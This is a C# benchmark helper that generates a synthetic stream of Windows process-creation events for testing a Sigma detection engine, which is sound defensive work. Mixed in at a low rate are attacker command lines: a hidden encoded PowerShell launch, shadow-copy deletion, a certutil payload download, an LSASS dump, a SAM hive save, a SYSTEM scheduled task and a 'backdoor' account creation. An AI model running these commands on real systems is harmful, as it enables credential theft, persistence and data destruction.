using Recorder.Sigma;

namespace Recorder.Benchmarks.Sigma;

/// <summary>
/// A stream of process starts as a Windows workstation produces them: mostly browsers, Office, system services,
/// developer tools with their usual arguments, and about one in a hundred a command an attacker would run.
/// </summary>
internal static class SyntheticProcessStream
{
    private static readonly (string Image, string OriginalFileName, string[] Arguments)[] Benign =
    [
        (@"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe", ["--type=renderer --field-trial-handle=1864,i,{0} --lang=en-US /prefetch:1", "--type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA --mojo-platform-channel-handle={0}", "https://mail.example.com/inbox/{0}"]),
        (@"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", "Outlook.exe", ["/recycle", ""]),
        (@"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "WinWord.exe", ["/n \"C:\\Users\\alice\\Documents\\Report {0}.docx\"", "/safe"]),
        (@"C:\Windows\System32\svchost.exe", "svchost.exe", ["-k netsvcs -p -s Schedule", "-k LocalServiceNetworkRestricted -p", "-k UnistackSvcGroup -s CDPUserSvc"]),
        (@"C:\Windows\System32\conhost.exe", "CONHOST.EXE", ["0xffffffff -ForceV1"]),
        (@"C:\Windows\System32\RuntimeBroker.exe", "RuntimeBroker.exe", ["-Embedding"]),
        (@"C:\Windows\System32\backgroundTaskHost.exe", "backgroundTaskHost.exe", ["-ServerName:BackgroundTaskHost.WebAccountProvider"]),
        (@"C:\Windows\System32\SearchProtocolHost.exe", "SearchProtocolHost.exe", ["Global\\UsGthrFltPipeMssGthrPipe{0}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{0} 1 -2147483646 \"Software\\Microsoft\\Windows Search\""]),
        (@"C:\Windows\System32\taskhostw.exe", "taskhostw.exe", ["{{222A245B-E637-4AE9-A93F-A59CA119A75E}}", "Install $(Arg0)"]),
        (@"C:\Program Files\Git\cmd\git.exe", "git.exe", ["status --porcelain", "fetch origin main", "log --oneline -n {0}"]),
        (@"C:\Program Files\dotnet\dotnet.exe", "dotnet.exe", ["build Recorder.sln -m:1", "test tests\\Recorder.Sigma.Tests", "exec C:\\Users\\alice\\.nuget\\tool{0}.dll"]),
        (@"C:\Users\alice\AppData\Local\Programs\Microsoft VS Code\Code.exe", "electron.exe", ["--type=utility --utility-sub-type=node.mojom.NodeService --field-trial-handle={0}"]),
        (@"C:\Windows\System32\cmd.exe", "Cmd.Exe", ["/c \"C:\\Program Files\\Git\\cmd\\git.exe\" rev-parse HEAD", "/d /s /c \"npm run build\""]),
        (@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", ["-NoProfile -Command Get-Date", "-File C:\\Scripts\\backup{0}.ps1"]),
        (@"C:\Windows\System32\notepad.exe", "NOTEPAD.EXE", ["C:\\Users\\alice\\Desktop\\todo{0}.txt"]),
        (@"C:\Windows\explorer.exe", "EXPLORER.EXE", ["/factory,{{75dff2b7-6936-4c06-a8bb-676a7b00b24b}} -Embedding"]),
        (@"C:\Windows\System32\msiexec.exe", "msiexec.exe", ["/V", "/i \"C:\\Users\\alice\\Downloads\\setup{0}.msi\" /qn"]),
        (@"C:\Program Files\7-Zip\7zG.exe", "7zg.exe", ["x -o\"C:\\Users\\alice\\Downloads\\archive{0}\\\" -spe -an -ai#7zMap{0}:64:7zEvent{0}"]),
        (@"C:\Windows\System32\wermgr.exe", "WerMgr", ["-upload", "-outproc 0 {0} 1234"]),
        (@"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe", "msedgeupdate.dll", ["/ua /installsource scheduler", "/c"]),
    ];

    private static readonly (string Image, string OriginalFileName, string CommandLine)[] Suspicious =
    [
        (@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
        (@"C:\Windows\System32\vssadmin.exe", "VSSADMIN.EXE", "vssadmin.exe delete shadows /all /quiet"),
        (@"C:\Windows\System32\whoami.exe", "whoami.exe", "whoami /all"),
        (@"C:\Windows\System32\certutil.exe", "CertUtil.exe", "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe"),
        (@"C:\Windows\System32\rundll32.exe", "RUNDLL32.EXE", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full"),
        (@"C:\Windows\System32\reg.exe", "reg.exe", "reg save HKLM\\SAM C:\\Temp\\sam.save"),
        (@"C:\Windows\System32\schtasks.exe", "schtasks.exe", "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon /ru System"),
        (@"C:\Windows\System32\net.exe", "net.exe", "net user backdoor P@ssw0rd /add"),
    ];

    private static readonly string[] Parents =
    [
        @"C:\Windows\explorer.exe", @"C:\Windows\System32\services.exe", @"C:\Windows\System32\svchost.exe",
        @"C:\Program Files\Google\Chrome\Application\chrome.exe", @"C:\Windows\System32\cmd.exe",
        @"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", @"C:\Windows\System32\userinit.exe",
    ];

    private static readonly string[] Users = [@"CONTOSO\alice", @"CONTOSO\bob", @"NT AUTHORITY\SYSTEM", @"NT AUTHORITY\LOCAL SERVICE"];

    public static List<ISigmaEventFields> Create(int count, int seed, double suspiciousShare = 0.01)
    {
        var random = new Random(seed);
        var events = new List<ISigmaEventFields>(count);
        for (var i = 0; i < count; i++)
        {
            string image, original, commandLine;
            if (random.NextDouble() < suspiciousShare)
                (image, original, commandLine) = Suspicious[random.Next(Suspicious.Length)];
            else
            {
                var (benignImage, benignOriginal, arguments) = Benign[random.Next(Benign.Length)];
                var argument = string.Format(arguments[random.Next(arguments.Length)], random.Next(1000, 99999));
                (image, original, commandLine) = (benignImage, benignOriginal, $"\"{benignImage}\" {argument}".TrimEnd());
            }
            var parent = Parents[random.Next(Parents.Length)];
            events.Add(new ProcessCreationEvent()
                .Set("Image", image)
                .Set("OriginalFileName", original)
                .Set("CommandLine", commandLine)
                .Set("CurrentDirectory", @"C:\Users\alice\")
                .Set("User", Users[random.Next(Users.Length)])
                .Set("LogonId", "0x" + random.Next(0x10000, 0xFFFFFF).ToString("x"))
                .Set("IntegrityLevel", random.Next(4) == 0 ? "High" : "Medium")
                .Set("Hashes", $"SHA256={random.NextInt64():X16}{random.NextInt64():X16},IMPHASH={random.NextInt64():X16}")
                .Set("ParentImage", parent)
                .Set("ParentCommandLine", parent)
                .Set("ParentProcessId", (long)random.Next(4, 30000))
                .Set("ProcessId", (long)random.Next(4, 30000)));
        }
        return events;
    }
}
